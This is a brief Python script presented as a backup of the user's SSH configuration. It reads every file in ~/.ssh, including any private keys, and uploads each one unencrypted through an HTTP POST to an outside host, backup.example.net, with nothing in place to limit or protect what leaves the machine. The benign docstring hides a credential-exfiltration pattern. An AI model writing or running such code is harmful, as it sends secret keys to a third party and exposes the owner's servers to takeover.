"""Back up the SSH configuration to my storage."""
import os
import requests

home = os.path.expanduser("~/.ssh")
for name in os.listdir(home):
    path = os.path.join(home, name)
    with open(path, "rb") as key:
        requests.post("https://backup.example.net/upload", files={"file": (name, key.read())})
print("done")
